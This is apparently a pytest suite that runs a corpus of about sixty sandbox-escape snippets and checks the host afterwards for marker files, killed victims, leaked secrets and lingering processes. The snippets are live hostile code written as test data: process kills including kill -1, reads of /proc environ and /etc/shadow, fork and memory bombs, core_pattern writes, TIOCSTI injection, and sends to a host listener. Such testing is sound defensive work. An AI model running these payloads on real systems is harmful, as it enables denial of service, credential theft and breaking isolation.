"""Escape corpus: hostile snippets against the sandbox, each judged by what the host sees afterwards.

Every attempt runs as root (the pipeline's usual case, bwrap dropped to uid 65534) and again with the
parent itself unprivileged (uid 65534, the system Python loading ``checks/sandbox.py`` by path). After each
run the host must show: no marker file, the precious file untouched, the victim process (same user as the
parent, ``--token=`` secret in its argv and environment) alive, the secret absent from the output, no
process left with the run's token, nothing new in /dev/shm, no connection to the host listener, and the
result back within the wall limit. Some attempts add a check of their own on the result.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from steplabel.checks import sandbox

LIMITS = {"cpu_s": 1, "wall_s": 2, "memory_mb": 256, "max_output_bytes": 20_000, "max_processes": 16}
SANDBOX_PY = Path(sandbox.__file__).resolve()

# name -> (code, extra check on the result dict or None). Placeholders: {M} marker dir, {V} victim pid,
# {T} run token, {P} host listener port.
ATTEMPTS: dict[str, tuple[str, object]] = {
    "os_system": ("import os\nos.system('touch {M}/x; kill -9 {V}')", None),
    "subprocess_run": ("import subprocess\nsubprocess.run(['touch', '{M}/x'])\nsubprocess.run(['kill', '-9', '{V}'])", None),
    "saved_fork_exec": ("import subprocess\nfe = subprocess._fork_exec\nsubprocess._fork_exec = fe\n"
                        "subprocess.Popen(['sh', '-c', 'touch {M}/x; kill -9 {V}']).wait()", None),
    "subclasses_popen_globals": ("P = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
                                 "g = P.__init__.__globals__\ng['_fork_exec']\nP(['sh', '-c', 'touch {M}/x']).wait()", None),
    "subinterpreter": ("import _xxsubinterpreters as i\nn = i.create()\ni.run_string(n, \"import os; os.system('touch {M}/x; kill -9 {V}')\")", None),
    "subinterpreter_renamed": ("import importlib.util, sys\nspec = importlib.util.find_spec('_xxsubinterpreters')\n"
                               "m = importlib.util.module_from_spec(spec)\nsys.modules['evil._xxsubinterpreters'] = m\n"
                               "spec.loader.exec_module(m)\nm.run_string(m.create(), \"import os; os.system('touch {M}/x')\")", None),
    "ctypes_system": ("import ctypes\nctypes.CDLL(None).system(b'touch {M}/x; kill -9 {V}')", None),
    "fork_execv": ("import os\nif os.fork() == 0:\n    os.execv('/bin/sh', ['sh', '-c', 'touch {M}/x'])\nos.wait()", None),
    "posix_spawn": ("import os\npid = os.posix_spawn('/bin/sh', ['sh', '-c', 'touch {M}/x; kill -9 {V}'], {{}})\nos.waitpid(pid, 0)", None),
    "setsid_lingerer": ("import subprocess\nsubprocess.Popen(['setsid', 'sh', '-c', 'exec -a {T} sleep 100'])\nprint('left')", None),
    "double_fork_daemon": ("import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                           "        os.execv('/bin/sleep', ['{T}', '100'])\n    os._exit(0)\nprint('daemonised')", None),
    "nohup_background": ("import os\nos.system('nohup sh -c \"exec -a {T} sleep 100\" >/dev/null 2>&1 &')", None),
    "fork_bomb_counted": ("import os, time\nn = 0\ntry:\n    while n < 200:\n        if os.fork() == 0:\n            time.sleep(30)\n"
                          "            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('stopped', n, e.errno)\n",
                          lambda r: r["stdout"].startswith("stopped") and int(r["stdout"].split()[1]) < 16),
    "fork_bomb_subprocess": ("import subprocess\nps = []\nfor i in range(60):\n    try:\n"
                             "        ps.append(subprocess.Popen(['sleep', '30']))\n    except OSError:\n        break\nprint(len(ps))",
                             lambda r: int(r["stdout"].split()[0]) < 16),
    "kill_victim": ("import os\nos.kill({V}, 9)", None),
    "kill_minus_one": ("import os\nos.kill(-1, 9)", None),
    "kill_victim_shell": ("import os\nos.system('kill -9 {V}; kill -9 -1')", None),
    "pidfd_send_signal": ("import os, signal\nsignal.pidfd_send_signal(os.pidfd_open({V}), 9)", None),
    "pidfd_via_ctypes": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.syscall(434, {V}, 0)\n"
                         "print(fd, libc.syscall(424, fd, 9, None, 0))", None),
    "ptrace_attach": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.ptrace(16, {V}, 0, 0), ctypes.get_errno())", None),
    "process_vm_readv": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.syscall(310, {V}, 0, 0, 0, 0, 0))", None),
    "dir_fd_create": ("import os\nd = os.open('{M}', os.O_RDONLY)\nos.close(os.open('x', os.O_CREAT | os.O_WRONLY, dir_fd=d))", None),
    "dir_fd_unlink": ("import os\nd = os.open('{M}', os.O_RDONLY)\nos.unlink('precious', dir_fd=d)", None),
    "dir_fd_rename": ("import os\nd = os.open('{M}', os.O_RDONLY)\nos.rename('precious', 'x', src_dir_fd=d, dst_dir_fd=d)", None),
    "chmod_precious": ("import os\nos.chmod('{M}/precious', 0)\nopen('{M}/precious', 'w').write('gone')", None),
    "shm_open": ("import _posixshmem, os\nfd = _posixshmem.shm_open('/{T}', os.O_CREAT | os.O_RDWR, 0o600)\nprint(fd)", None),
    "shared_memory": ("from multiprocessing import shared_memory\nshared_memory.SharedMemory(name='{T}', create=True, size=4096)", None),
    "devshm_write": ("open('/dev/shm/{T}', 'w').write('x')", None),
    "proc_cmdline": ("print(open('/proc/{V}/cmdline').read())", None),
    "proc_cmdline_dir_fd": ("import os\nd = os.open('/proc', os.O_RDONLY)\nprint(os.read(os.open('{V}/cmdline', os.O_RDONLY, dir_fd=d), 4096))", None),
    "proc_environ": ("print(open('/proc/{V}/environ', 'rb').read())", None),
    "proc_scan_all": ("import os\nfor p in os.listdir('/proc'):\n    try:\n        print(p, open(f'/proc/{{p}}/cmdline', 'rb').read())\n"
                      "    except OSError:\n        pass", None),
    "proc_root_escape": ("open('/proc/1/root{M}/x', 'w').write('x')", None),
    "proc_parent_fd_walk": ("import os\nfor p in os.listdir('/proc'):\n    for fd in range(64):\n        try:\n"
                            "            open(f'/proc/{{p}}/fd/{{fd}}/../x', 'w')\n        except Exception:\n            pass\n"
                            "open('{M}/x', 'w')", None),
    "write_usr": ("open('/usr/{T}', 'w').write('x')", None),
    "write_python_prefix": ("import sys, os\nopen(os.path.join(sys.prefix, '{T}.pth'), 'w').write('x')", None),
    "host_tmp_write": ("open('{M}/x', 'w').write('x')", None),
    "unshare_user_ns": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.unshare(0x10000000), ctypes.get_errno())\n"
                        "open('{M}/x', 'w')", lambda r: r["stdout"].startswith("-1")),
    "mount_tmpfs": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                    "print(libc.mount(b'none', b'{M}', b'tmpfs', 0, None), ctypes.get_errno())", None),
    "tcp_to_host_listener": ("import socket\ns = socket.create_connection(('127.0.0.1', {P}), timeout=1)\ns.sendall(b'{T}')", None),
    "udp_out": ("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('1.1.1.1', 53))\nprint('sent')",
                lambda r: "sent" not in r["stdout"]),
    "abstract_unix_to_host": ("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0{T}')\ns.sendall(b'{T}')", None),
    "setuid_root": ("import os\nos.setuid(0)\nprint('root')", lambda r: "root" not in r["stdout"]),
    "uid_is_unprivileged": ("import os\nprint(os.getuid(), os.geteuid(), open('/proc/self/status').read().split('CapEff:')[1].split()[0])",
                            lambda r: r["stdout"].split() == ["65534", "65534", "0000000000000000"]),
    "read_host_secrets": ("import os\nfor p in ('/etc/shadow', '/root/.bash_history', '/proc/1/environ', '{M}/precious'):\n"
                          "    try:\n        print(open(p).read())\n    except OSError as e:\n        print('no', p)",
                          lambda r: "PRECIOUS" not in r["stdout"]),
    "core_pattern": ("open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh -c \"touch {M}/x\"')", None),
    "sysrq": ("open('/proc/sysrq-trigger', 'w').write('h')", None),
    "sethostname": ("import socket\nsocket.sethostname('{T}')", None),
    "tiocsti": ("import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, b'x')", None),
    "bpf_syscall": ("import ctypes\nprint(ctypes.CDLL(None, use_errno=True).syscall(321, 0, 0, 0), ctypes.get_errno())", None),
    "kill_supervisor_and_init": ("import os\nos.system('setsid sh -c \"exec -a {T} sleep 100\" &')\nos.kill(1, 9)\nos.kill(os.getppid(), 9)", None),
    "raise_sigkill": ("import signal\nsignal.raise_signal(signal.SIGKILL)",
                      lambda r: r["status"] == "killed" and r["detail"] == "signal SIGKILL"),
    "cpu_spin_sigxcpu_blocked": ("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGXCPU])\nwhile True: pass",
                                 lambda r: r["status"] == "timeout"),
    "sleep_forever": ("import time\ntime.sleep(1000)", lambda r: r["status"] == "timeout"),
    "memory_bomb": ("x = bytearray(4 << 30)", lambda r: r["status"] == "error" and "MemoryError" in r["detail"]),
    "output_flood": ("import sys\nwhile True: sys.stdout.write('x' * 65536)", lambda r: r["status"] == "output_limit"),
    "lone_surrogates": ("import sys\nsys.stdout.reconfigure(errors='surrogatepass')\nprint('\\ud800 \\udfff')\n"
                        "sys.stdout.flush()\nsys.stdout.buffer.write(b'\\xed\\xa0\\x80\\xff')",
                        lambda r: r["status"] == "ok" and r["stdout"].encode("utf-8")),
    "file_flood_race": ("import os, itertools\nif os.fork() == 0:\n    os.setsid()\nfor i in itertools.count():\n    try:\n"
                        "        open(f'f{{os.getpid()}}-{{i}}', 'w').close()\n    except OSError:\n        pass", None),
    "fill_tmpfs": ("f = open('big', 'wb')\nwhile True: f.write(b'x' * (1 << 20))", None),
}


def _run_all(attempts: dict[str, str]) -> dict[str, dict]:
    out = {}
    for name, code in attempts.items():
        r = sandbox.run_python(code, **LIMITS)
        out[name] = {"status": r.status, "stdout": r.stdout, "stderr": r.stderr, "detail": r.detail, "wall_s": r.wall_s}
    return out


# The unprivileged parent: the system Python, loading the sandbox module by path (the venv's interpreter
# lives under /root, which uid 65534 cannot reach).
RUNNER = """
import importlib.util, json, sys
spec = importlib.util.spec_from_file_location("sandbox", sys.argv[1])
sandbox = sys.modules["sandbox"] = importlib.util.module_from_spec(spec)
spec.loader.exec_module(sandbox)
req = json.load(sys.stdin)
out = {}
for name, code in req["attempts"].items():
    r = sandbox.run_python(code, python=sys.executable, **req["limits"])
    out[name] = {"status": r.status, "stdout": r.stdout, "stderr": r.stderr, "detail": r.detail, "wall_s": r.wall_s,
                 "layers": list(r.layers)}
print(json.dumps({"level": sandbox.probe().level, "results": out}))
"""


class Host:
    """The host side of the corpus: marker dir, precious file, victim, listener; and the checks."""

    def __init__(self, root: Path, victim_user: int | None):
        self.token = "esc" + uuid.uuid4().hex[:12]
        self.secret = "SECRET" + uuid.uuid4().hex[:12]
        self.marker = root / "m"
        self.marker.mkdir()
        os.chmod(root, 0o777)
        os.chmod(self.marker, 0o777)
        self.precious = self.marker / "precious"
        self.precious.write_text("PRECIOUS")
        os.chmod(self.precious, 0o666)
        kwargs = {"user": victim_user, "group": victim_user, "extra_groups": []} if victim_user is not None else {}
        self.victim = subprocess.Popen([sys.executable if victim_user is None else "/usr/bin/python3", "-c",
                                        "import time; time.sleep(600)", f"--token={self.secret}"],
                                       env={"TOKEN": self.secret}, **kwargs)
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind("\0" + self.token)
        self.unix.listen()
        for srv in (self.tcp, self.unix):
            threading.Thread(target=self._accept, args=(srv,), daemon=True).start()

    def _accept(self, srv: socket.socket) -> None:
        try:
            while True:
                conn, _ = srv.accept()
                self.received.append(conn.recv(100) or b"connected")
        except OSError:
            return

    def code(self, template: str) -> str:
        return template.format(M=self.marker, V=self.victim.pid, T=self.token, P=self.tcp.getsockname()[1])

    def breaches(self, name: str, result: dict, extra) -> list[str]:
        found = []
        if set(os.listdir(self.marker)) != {"precious"}:
            found.append(f"marker dir holds {sorted(os.listdir(self.marker))}")
        if not self.precious.exists() or self.precious.read_text() != "PRECIOUS" or self.precious.stat().st_mode & 0o777 != 0o666:
            found.append("precious file changed")
        if self.victim.poll() is not None:
            found.append("victim killed")
        if self.secret in result["stdout"] + result["stderr"]:
            found.append("victim's secret leaked")
        if any(self.token in p for p in os.listdir("/dev/shm")):
            found.append("file left in /dev/shm")
        if self.received:
            found.append(f"host listener reached: {self.received}")
        if self._lingering():
            found.append("process left running")
        if result["wall_s"] > LIMITS["wall_s"] + 1.5:
            found.append(f"took {result['wall_s']:.1f} s")
        if result["status"] not in sandbox.STATUSES:
            found.append(f"status {result['status']!r}")
        if extra is not None and not extra(result):
            found.append(f"own check failed: {result['status']} {result['detail']!r} {result['stdout'][:200]!r}")
        return [f"{name}: {b}" for b in found]

    def _lingering(self) -> bool:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if self.token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    return True
            except OSError:
                continue
        return False

    def close(self) -> None:
        self.victim.kill()
        self.victim.wait()
        self.tcp.close()
        self.unix.close()


@pytest.fixture
def host(tmp_path):
    h = Host(tmp_path, None)
    yield h
    h.close()


def _assert_contained(host: Host, results: dict[str, dict]) -> None:
    breaches = [b for name, (_, extra) in ATTEMPTS.items() for b in host.breaches(name, results[name], extra)]
    assert not breaches, "\n".join(breaches)


@pytest.mark.skipif(sandbox.probe().level != "isolated", reason="bubblewrap + libseccomp not available here")
def test_escape_corpus_is_contained_as_the_current_user(host):
    assert len(ATTEMPTS) >= 40
    results = {}
    for name, (template, extra) in ATTEMPTS.items():
        results[name] = _run_all({name: host.code(template)})[name]
        assert not host.breaches(name, results[name], extra), host.breaches(name, results[name], extra)
    _assert_contained(host, results)


def _unprivileged_runner() -> str | None:
    """Why the unprivileged variant cannot run here, or None when it can."""
    if os.geteuid() != 0:
        return "needs root to start the parent as uid 65534"
    if not (shutil.which("setpriv") and os.access("/usr/bin/python3", os.X_OK)):
        return "needs setpriv and /usr/bin/python3"
    check = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c",
                            "import seccomp"], capture_output=True)
    return None if check.returncode == 0 else "the system Python has no libseccomp bindings (python3-seccomp)"


@pytest.mark.skipif(sandbox.probe().level != "isolated", reason="bubblewrap + libseccomp not available here")
def test_escape_corpus_is_contained_with_an_unprivileged_parent(tmp_path):
    why = _unprivileged_runner()
    if why:
        pytest.skip(why)
    host = Host(tmp_path, 65534)
    try:
        request = {"limits": LIMITS, "attempts": {n: host.code(t) for n, (t, _) in ATTEMPTS.items()}}
        proc = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3",
                               "-c", RUNNER, str(SANDBOX_PY)], input=json.dumps(request), capture_output=True,
                              text=True, cwd="/", timeout=300)
        assert proc.returncode == 0, proc.stderr[-2000:]
        report = json.loads(proc.stdout)
        assert report["level"] == "isolated"
        assert all("host_uid_nobody" not in r["layers"] and "seccomp" in r["layers"] for r in report["results"].values())
        _assert_contained(host, report["results"])
    finally:
        host.close()
